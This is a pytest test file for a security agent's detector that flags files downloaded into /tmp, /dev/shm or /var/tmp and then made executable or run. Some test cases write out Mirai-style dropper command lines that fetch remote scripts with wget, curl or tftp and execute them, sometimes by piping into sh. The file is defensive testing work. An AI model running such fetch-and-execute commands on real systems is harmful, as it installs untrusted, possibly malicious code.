"""Download-then-run detector: droppers fetch into /tmp, /dev/shm or /var/tmp and chmod or
run what they fetched; compiles, pagers and package upgrades do not raise it."""

from __future__ import annotations

import itertools
from typing import Any, Callable

import pytest

from defender_agent import config
from defender_agent.agent import Agent
from defender_agent.clock import ManualClock
from defender_agent.detectors import download_then_run
from defender_agent.detectors.download_then_run import (
    MAX_MANAGED,
    DownloadThenRunDetector,
    adds_execute,
    piped_fetch,
)
from defender_agent.model import Record, rfc3339

T0 = 1_795_000_000.0
URL = "http://203.0.113.5/bins.sh"

_pids = itertools.count(5000)


@pytest.fixture
def detector(
    detector_section: Callable[..., dict[str, Any]],
) -> Callable[..., DownloadThenRunDetector]:
    """A download-then-run detector from the schema's defaults with `settings` over them."""

    def make(**settings: Any) -> DownloadThenRunDetector:
        agent = Agent("t", ManualClock(T0 + 600))
        section = detector_section("download_then_run", **settings)
        return download_then_run.create(
            agent.context("detectors", "download_then_run"), section, {}
        )

    return make


def run(
    t: float,
    executable: str | None,
    cmdline: str | None,
    cwd: str | None = "/tmp",
    uid: int = 0,
    pid: int | None = None,
    ppid: int = 812,
    parent_executable: str = "/bin/busybox",
    parent_cmdline: str = "sh -c cd /tmp; ...",
) -> Record:
    """A process-exec event at T0 + t."""
    return Record(
        "event",
        {
            "event": "process-exec",
            "pid": next(_pids) if pid is None else pid,
            "ppid": ppid,
            "uid": uid,
            "euid": uid,
            "user": "root" if uid == 0 else "admin",
            "executable": executable,
            "deleted": False,
            "cmdline": cmdline,
            "cwd": cwd,
            "parent_executable": parent_executable,
            "parent_cmdline": parent_cmdline,
            "start_time": T0 + t,
            "backend": "netlink",
        },
        T0 + t,
    )


def feed(det: DownloadThenRunDetector, *records: Record) -> list[dict[str, Any]]:
    return [a.payload for r in records for a in det.process(r)]


# --- droppers ---------------------------------------------------------------------------


def test_the_mirai_style_dropper_raises_one_alert_updated_as_it_runs(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    """cd /tmp; wget http://H/bins.sh; chmod 777 bins.sh; sh bins.sh (busybox applets)."""
    det = detector(update_every=60.0)
    assert feed(det, run(0, "/bin/busybox", f"wget {URL}")) == []
    (alert,) = feed(det, run(1.5, "/bin/busybox", "chmod 777 bins.sh"))
    assert (alert["name"], alert["severity"], alert["how"]) == (
        "DownloadThenRun",
        "medium",
        "chmod",
    )
    assert (alert["path"], alert["fetched_path"], alert["url"]) == ("/tmp/bins.sh",) * 2 + (URL,)
    assert alert["matched_by"] == "path" and alert["seconds_after"] == 1.5
    assert alert["fetch_cmdline"] == f"wget {URL}" and alert["fetch_executable"] == "/bin/busybox"
    assert alert["fetched_at"] == rfc3339(T0) and alert["first_seen"] == rfc3339(T0 + 1.5)
    assert (
        "/tmp/bins.sh was made executable 1.5 s after wget downloaded it" in (alert["description"])
    )
    assert alert["remediation"] and alert["cmdline"] == "chmod 777 bins.sh"
    assert feed(det, run(2, "/bin/busybox", "sh bins.sh")) == []  # counted into it
    (update,) = feed(det, run(70, "/bin/busybox", "sh ./bins.sh"))
    assert update["id"] == alert["id"] and update["update"] is True and update["count"] == 3
    assert update["how"] == "interpreter"


@pytest.mark.parametrize(
    ("fetch", "cwd", "then", "how"),
    [
        ("curl -o /tmp/x http://203.0.113.5/x", "/root", ("/tmp/x", "/tmp/x"), "exec"),
        (
            "curl -sSLo /dev/shm/.x http://203.0.113.5/x",
            "/",
            ("/bin/chmod", "chmod +x /dev/shm/.x"),
            "chmod",
        ),
        (
            "curl -fsSL --output /var/tmp/k http://203.0.113.5/k",
            "/",
            ("/var/tmp/k", "/var/tmp/k -d"),
            "exec",
        ),
        (
            "curl -O http://203.0.113.5/a/payload?x=1#y",
            "/var/tmp",
            ("/var/tmp/payload", "payload"),
            "exec",
        ),
        (
            "curl -sO http://203.0.113.5/payload",
            "/tmp",
            ("/bin/chmod", "chmod u+x payload"),
            "chmod",
        ),
        (
            "curl --output-dir /tmp -O http://203.0.113.5/p.sh",
            "/",
            ("/bin/bash", "bash /tmp/p.sh"),
            "interpreter",
        ),
        ("curl -XPOST -o ../tmp/y http://203.0.113.5/y", "/var", ("/tmp/y", "/tmp/y"), "exec"),
        ("wget -O /tmp/a http://203.0.113.5/a", "/", ("/tmp/a", "/tmp/a"), "exec"),
        ("wget -qO/tmp/a http://203.0.113.5/a", "/", ("/bin/chmod", "chmod 0755 /tmp/a"), "chmod"),
        ("wget --output-document=/tmp/a http://203.0.113.5/a", "/", ("/tmp/a", "/tmp/a"), "exec"),
        ("wget -P /dev/shm http://203.0.113.5/m.arm7", "/", ("/dev/shm/m.arm7", "m"), "exec"),
        ("wget -q http://203.0.113.5/m.arm7", "/var/tmp", ("/var/tmp/m.arm7", "m"), "exec"),
        (
            "tftp -g -r mirai.arm 203.0.113.5",
            "/tmp",
            ("/bin/chmod", "chmod 777 mirai.arm"),
            "chmod",
        ),
        ("tftp -g -l /tmp/t -r t.sh 203.0.113.5", "/", ("/bin/sh", "sh /tmp/t"), "interpreter"),
        ("tftp 203.0.113.5 -c get t1.sh", "/tmp", ("/bin/sh", "sh t1.sh"), "interpreter"),
        ("wget http://203.0.113.5/s.sh", "/tmp", ("/bin/bash", "bash -ex ./s.sh 1"), "interpreter"),
        (
            "wget http://203.0.113.5/s.py",
            "/tmp",
            ("/usr/bin/python3", "python3 -u s.py"),
            "interpreter",
        ),
        ("busybox wget http://203.0.113.5/z", "/tmp", ("/tmp/z", "/tmp/z"), "exec"),
        (
            "atftp --get --remote-file r.bin --local-file /tmp/r 203.0.113.5",
            "/",
            ("/tmp/r", "r"),
            "exec",
        ),
    ],
)
def test_fetch_forms(
    fetch: str,
    cwd: str,
    then: tuple[str, str],
    how: str,
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    exe = (
        "/bin/busybox" if fetch.startswith(("busybox", "tftp")) else f"/usr/bin/{fetch.split()[0]}"
    )
    det = detector()
    assert feed(det, run(0, exe, fetch, cwd=cwd)) == []
    alerts = feed(det, run(3, then[0], then[1], cwd=cwd))
    assert [a["how"] for a in alerts] == [how], fetch
    assert alerts[0]["url"] and alerts[0]["fetched_path"].startswith(
        ("/tmp", "/dev/shm", "/var/tmp")
    )


def test_an_uncertain_name_matches_by_directory_and_uid(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    """wget saves bins.sh as bins.sh.1 when bins.sh exists; only the same uid counts."""
    det = detector()
    feed(det, run(0, "/usr/bin/wget", f"wget {URL}", uid=1000))
    assert feed(det, run(2, "/tmp/bins.sh.1", "./bins.sh.1", uid=33)) == []  # another user
    assert feed(det, run(2, "/tmp/sub/bins.sh.1", "./sub/bins.sh.1", uid=1000)) == []
    (alert,) = feed(det, run(3, "/tmp/bins.sh.1", "./bins.sh.1", uid=1000))
    assert alert["matched_by"] == "directory and uid" and alert["path"] == "/tmp/bins.sh.1"
    assert "a file into /tmp" in alert["description"]


def test_a_certain_name_does_not_match_other_files_in_the_directory(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    """A source file downloaded to /tmp, then compiled and run: a.out is not what came."""
    det = detector()
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/x.c http://203.0.113.5/x.c"))
    feed(det, run(1, "/usr/bin/gcc", "gcc -o a.out x.c"))
    assert feed(det, run(5, "/tmp/a.out", "./a.out")) == []


def test_the_window_edges_on_event_time(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector(window=300.0)
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/a http://203.0.113.5/a"))
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/b http://203.0.113.5/b"))
    assert feed(det, run(300.01, "/tmp/a", "/tmp/a")) == []  # just outside
    assert len(feed(det, run(300.0, "/tmp/b", "/tmp/b"))) == 1  # at the edge
    # a shell's `exec` is dated at its fork, before the fetch it ran: still within
    feed(det, run(1000, "/usr/bin/curl", "curl -o /tmp/c http://203.0.113.5/c"))
    assert len(feed(det, run(999.5, "/tmp/c", "/tmp/c"))) == 1


def test_a_fetch_piped_into_a_shell(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector()
    pipeline = "sh -c wget -qO- http://203.0.113.5/i.sh | sh"
    (outer,) = feed(det, run(0, "/bin/busybox", pipeline, parent_cmdline="/usr/sbin/httpd"))
    assert outer["how"] == "pipe" and outer["pipeline"] == pipeline
    assert (
        feed(
            det,
            run(0.01, "/bin/busybox", "wget -qO- http://203.0.113.5/i.sh", parent_cmdline=pipeline),
        )
        == []
    )
    # the right-hand shell of the same pipeline is the same incident
    assert feed(det, run(0.01, "/bin/busybox", "sh", parent_cmdline=pipeline)) == []
    assert det.statistics()["findings"] == 2 and det.statistics()["alerts"] == 1
    other = "bash -c curl -fsSL http://203.0.113.5/x | sudo -E bash -s -- --now"
    assert len(feed(det, run(1, "/usr/bin/bash", "bash -s", parent_cmdline=other))) == 1
    assert feed(detector(pipe_to_shell=False), run(0, "/bin/busybox", pipeline)) == []


@pytest.mark.parametrize(
    ("line", "fetcher"),
    [
        ("sh -c curl http://203.0.113.5/x|sh", "curl"),
        ("sh -c curl -s http://203.0.113.5/x | busybox sh", "curl"),
        ("sh -c wget -O - http://203.0.113.5/x | env FOO=1 python3", "wget"),
        ("sh -c curl -s https://example.org/notes | less", None),
        ("sh -c curl -s https://example.org/x || sh /etc/fallback.sh", None),
        ("sh -c cat notes | sh", None),
        ("sh -c curl -s https://example.org/x | grep sh", None),
    ],
)
def test_piped_fetch(
    line: str, fetcher: str | None, detector_section: Callable[..., dict[str, Any]]
) -> None:
    section = detector_section("download_then_run")
    fetchers = download_then_run.parse_fetchers(section["fetchers"])
    assert piped_fetch(line, fetchers, tuple(section["interpreters"])) == fetcher


# --- near misses ------------------------------------------------------------------------------


def test_near_miss_a_compile_in_tmp_without_any_fetch(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    events = [
        run(0, "/usr/bin/gcc", "gcc -O2 -o a.out hello.c"),
        run(1, "/usr/bin/chmod", "chmod +x a.out"),
        run(2, "/tmp/a.out", "./a.out"),
        run(3, "/bin/sh", "sh ./configure"),
    ]
    assert feed(det, *events) == []


def test_near_miss_curl_to_stdout_piped_to_a_pager(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    parent = "sh -c curl -s https://example.org/notes.txt | less"
    events = [
        run(0, "/usr/bin/curl", "curl -s https://example.org/notes.txt", parent_cmdline=parent),
        run(0, "/usr/bin/less", "less", parent_cmdline=parent),
        run(1, "/usr/bin/wget", "wget -qO- https://example.org/x", cwd="/tmp"),
        run(2, "/tmp/x", "/tmp/x"),
    ]
    assert feed(det, *events) == []


def test_near_miss_a_package_upgrade_unpacking_and_running_files_in_tmp(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    """apt -> dpkg -> postinst -> wget into /tmp -> run it: every level is the upgrade's,
    the deeper ones known only because the detector saw them descend from dpkg."""
    det = detector()
    events = [
        run(0, "/usr/bin/apt-get", "apt-get -y upgrade", pid=10, ppid=1),
        run(
            1,
            "/usr/bin/dpkg",
            "/usr/bin/dpkg --configure -a",
            pid=11,
            ppid=10,
            parent_executable="/usr/bin/apt-get",
        ),
        run(
            2,
            "/usr/bin/dash",
            "/bin/sh /var/lib/dpkg/info/fonts.postinst configure",
            pid=12,
            ppid=11,
            parent_executable="/usr/bin/dpkg",
        ),
        run(
            3,
            "/usr/bin/wget",
            "wget -O /tmp/fonts/installer http://192.0.2.9/installer",
            pid=13,
            ppid=12,
            parent_executable="/usr/bin/dash",
            parent_cmdline="/bin/sh /var/lib/dpkg/info/fonts.postinst configure",
        ),
        run(
            4,
            "/usr/bin/bash",
            "bash /tmp/fonts/helper.sh",
            pid=14,
            ppid=12,
            parent_executable="/usr/bin/dash",
            parent_cmdline="/bin/sh /var/lib/dpkg/info/fonts.postinst configure",
        ),
        run(
            5,
            "/usr/bin/chmod",
            "chmod 755 /tmp/fonts/installer",
            pid=15,
            ppid=14,
            parent_executable="/usr/bin/bash",
            parent_cmdline="bash /tmp/fonts/helper.sh",
        ),
        run(
            6,
            "/tmp/fonts/installer",
            "/tmp/fonts/installer --quiet",
            pid=16,
            ppid=14,
            parent_executable="/usr/bin/bash",
            parent_cmdline="bash /tmp/fonts/helper.sh",
        ),
        # rpm runs its scriptlets from /var/tmp
        run(
            7,
            "/usr/bin/bash",
            "/bin/sh /var/tmp/rpm-tmp.AbC12 1",
            pid=17,
            ppid=30,
            parent_executable="/usr/bin/rpm",
            parent_cmdline="rpm -Uvh x.rpm",
        ),
    ]
    assert feed(det, *events) == []
    assert det.statistics()["package-manager"] == len(events)
    assert det.statistics()["fetches"] == 0


def test_near_miss_a_fetch_outside_the_watched_directories(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    feed(det, run(0, "/usr/bin/curl", "curl -o /home/admin/x.sh http://203.0.113.5/x", cwd="/"))
    feed(det, run(0, "/usr/bin/wget", "wget http://203.0.113.5/y", cwd="/home/admin"))
    assert feed(det, run(1, "/bin/sh", "sh /home/admin/x.sh", cwd="/")) == []
    assert feed(det, run(1, "/home/admin/y", "./y", cwd="/home/admin")) == []
    assert det.statistics()["fetches"] == 2 and det.statistics()["fetches-watched"] == 0


def test_near_miss_chmod_without_an_execute_bit_and_reading_the_file(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/conf http://203.0.113.5/conf"))
    events = [
        run(1, "/bin/chmod", "chmod 644 /tmp/conf"),
        run(1, "/bin/chmod", "chmod -x /tmp/conf"),
        run(1, "/bin/chmod", "chmod go-rwx /tmp/conf"),
        run(1, "/bin/cat", "cat /tmp/conf"),
        run(1, "/usr/bin/file", "file /tmp/conf"),
    ]
    assert feed(det, *events) == []


@pytest.mark.parametrize(
    "cmdline",
    ["sh -c s.sh", "perl -e s.sh", "python3 -m s.sh", "bash -s s.sh", "sh - s.sh", "sh -- s.sh"],
)
def test_near_miss_an_interpreter_running_an_inline_command_or_stdin(
    cmdline: str, detector: Callable[..., DownloadThenRunDetector]
) -> None:
    det = detector()
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/s.sh http://203.0.113.5/s.sh"))
    assert feed(det, run(1, "/usr/bin/" + cmdline.split()[0], cmdline)) == []


def test_a_relative_path_with_an_unknown_directory_is_counted(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    feed(det, run(0, "/usr/bin/wget", "wget http://203.0.113.5/bins.sh", cwd=None))
    assert det.statistics()["fetch-unresolved"] == 1


@pytest.mark.parametrize(
    ("mode", "executable"),
    [
        ("+x", True),
        ("u+x", True),
        ("a=rwx", True),
        ("755", True),
        ("0777", True),
        ("4711", True),
        ("1", True),
        ("g+X", True),
        ("u+r,o+x", True),
        ("644", False),
        ("0600", False),
        ("-x", False),
        ("go-rwx", False),
        ("u=rw", False),
        ("8", False),
        ("file", False),
    ],
)
def test_adds_execute(mode: str, executable: bool) -> None:
    assert adds_execute(mode) is executable


# --- hostile input --------------------------------------------------------------------------


def test_hostile_command_lines(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector()
    huge = "curl -o /tmp/" + "x" * 1_000_000 + " http://203.0.113.5/"
    feed(det, run(0, "/usr/bin/curl", huge))
    feed(det, run(0, "/usr/bin/curl", "curl " + "-o " * 100_000))
    feed(det, run(0, "/usr/bin/wget", "wget -O"))
    feed(det, run(0, "/usr/bin/curl", "curl -o \\xff\\xfe\udcff http://203.0.113.5/"))
    assert feed(det, run(1, "/bin/sh", "sh -c " + "curl | " * 100_000 + "sh")) == []  # capped
    (alert,) = feed(det, run(1, "/bin/sh", "sh \\xff\\xfe\udcff"))
    assert alert["path"] == "/tmp/\\xff\\xfe\udcff"
    for value in (None, 17, "", "/" * 10_000):
        assert feed(det, run(2, None, value)) == []  # type: ignore[arg-type]


def test_many_distinct_fetches_stay_bounded(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector(max_fetches=16)
    for n in range(100):
        feed(det, run(n * 0.01, "/usr/bin/wget", f"wget http://203.0.113.5/{n}", uid=n))
    stats = det.statistics()
    assert stats["tracked-fetches"] == 32  # 16 paths and 16 (directory, uid) entries
    assert stats["fetches-forgotten"] == 2 * (100 - 16)
    assert len(feed(det, run(2, "/tmp/99", "./99", uid=99))) == 1  # the newest is kept
    assert feed(det, run(2, "/tmp/0", "./0", uid=0)) == []  # the oldest was forgotten


def test_old_fetches_leave_on_event_time(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector(window=60.0)
    feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/a http://203.0.113.5/a"))
    feed(det, run(120, "/usr/bin/curl", "curl -o /tmp/b http://203.0.113.5/b"))
    assert det.statistics()["tracked-fetches"] == 1


def test_package_manager_pids_stay_bounded(
    detector: Callable[..., DownloadThenRunDetector],
) -> None:
    det = detector()
    for n in range(MAX_MANAGED + 10):
        feed(det, run(0, "/usr/bin/dpkg", "dpkg -i x.deb", pid=100_000 + n))
    assert len(det._managed) == MAX_MANAGED
    assert det.statistics()["managed-forgotten"] == 10


# --- configuration ------------------------------------------------------------------------


def test_create_and_describe_from_a_section(
    detector_section: Callable[..., dict[str, Any]],
) -> None:
    agent = Agent("t", ManualClock(T0))
    det = download_then_run.create(
        agent.context("detectors", "download_then_run"), detector_section("download_then_run"), {}
    )
    assert det.name == "download_then_run" and det.window == 300.0
    assert det.fetchers["uclient-fetch"] == "wget"
    lines = download_then_run.describe(detector_section("download_then_run"))
    assert "/tmp, /dev/shm, /var/tmp" in lines[0] and "(on)" in lines[1]
    assert det.save_state() == {} and det.statistics()["execs"] == 0


def test_a_bad_fetcher_is_a_configuration_error(
    detector_section: Callable[..., dict[str, Any]],
) -> None:
    section = detector_section("download_then_run", fetchers=["curl=curl", "aria2c=aria"])
    with pytest.raises(
        config.ConfigError, match=r"detectors\.download_then_run\.fetchers: 'aria2c=aria'"
    ):
        download_then_run.describe(section)


def test_fetchers_are_data(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector(fetchers=["fetch-tool=curl"])
    feed(det, run(0, "/opt/bin/fetch-tool", "fetch-tool -o /tmp/q http://203.0.113.5/q"))
    assert len(feed(det, run(1, "/tmp/q", "/tmp/q"))) == 1
    feed(det, run(2, "/usr/bin/curl", "curl -o /tmp/r http://203.0.113.5/r"))
    assert feed(det, run(3, "/tmp/r", "/tmp/r")) == []  # curl is no longer one


# (executable, command line, parent executable, parent command line, cwd)
BENIGN = [
    ("/usr/bin/apt-get", "apt-get -y install htop", "/usr/bin/bash", "-bash", "/root"),
    (
        "/usr/bin/dpkg",
        "/usr/bin/dpkg --unpack /var/cache/apt/archives/htop.deb",
        "/usr/bin/apt-get",
        "apt-get -y install htop",
        "/",
    ),
    (
        "/usr/bin/dash",
        "/bin/sh /var/lib/dpkg/info/htop.postinst configure",
        "/usr/bin/dpkg",
        "/usr/bin/dpkg --configure htop",
        "/",
    ),
    ("/usr/bin/opkg", "opkg upgrade busybox", "/bin/ash", "-ash", "/root"),
    (
        "/bin/sh",
        "/bin/sh /usr/lib/opkg/info/busybox.postinst",
        "/usr/bin/opkg",
        "opkg upgrade busybox",
        "/",
    ),
    (
        "/usr/bin/dash",
        "/bin/sh -c test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
        "/root",
    ),
    (
        "/usr/bin/run-parts",
        "run-parts --report /etc/cron.daily",
        "/usr/bin/dash",
        "/bin/sh -c",
        "/",
    ),
    (
        "/usr/bin/curl",
        "curl -fsS -o /var/lib/app/feed.json https://192.0.2.80/feed.json",
        "/usr/bin/dash",
        "/bin/sh -c /usr/lib/app/refresh",
        "/",
    ),
    ("/usr/sbin/dhclient", "dhclient -4 -v eth0", "/usr/sbin/ifup", "ifup eth0", "/"),
    ("/usr/bin/bash", "/bin/sh /sbin/dhclient-script", "/usr/sbin/dhclient", "dhclient -4", "/"),
    ("/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", "/usr/lib/systemd/systemd", "/sbin/init", "/"),
    ("/usr/bin/bash", "-bash", "/usr/sbin/sshd", "sshd: admin@pts/0", "/home/admin"),
    ("/usr/bin/ps", "ps aux", "/usr/bin/bash", "-bash", "/home/admin"),
    ("/usr/bin/top", "top -b -n 1", "/usr/bin/bash", "-bash", "/home/admin"),
    ("/usr/bin/ss", "ss -tlnp", "/usr/bin/bash", "-bash", "/home/admin"),
    ("/usr/bin/journalctl", "journalctl -u ssh -e", "/usr/bin/bash", "-bash", "/home/admin"),
    ("/usr/bin/make", "make -j2", "/usr/bin/bash", "-bash", "/tmp/build"),
    ("/usr/bin/gcc", "gcc -O2 -o hello hello.c", "/usr/bin/make", "make -j2", "/tmp/build"),
    ("/usr/bin/chmod", "chmod +x hello", "/usr/bin/make", "make -j2", "/tmp/build"),
    ("/tmp/build/hello", "./hello", "/usr/bin/bash", "-bash", "/tmp/build"),
    ("/usr/bin/sh", "sh ./configure --prefix=/usr", "/usr/bin/bash", "-bash", "/tmp/build"),
]


def test_a_benign_workload_raises_nothing(detector: Callable[..., DownloadThenRunDetector]) -> None:
    det = detector()
    records = [
        run(i * 2.0, exe, cmd, cwd=cwd, parent_executable=pexe, parent_cmdline=pcmd)
        for i, (exe, cmd, pexe, pcmd, cwd) in enumerate(BENIGN)
    ]
    assert feed(det, *records) == []
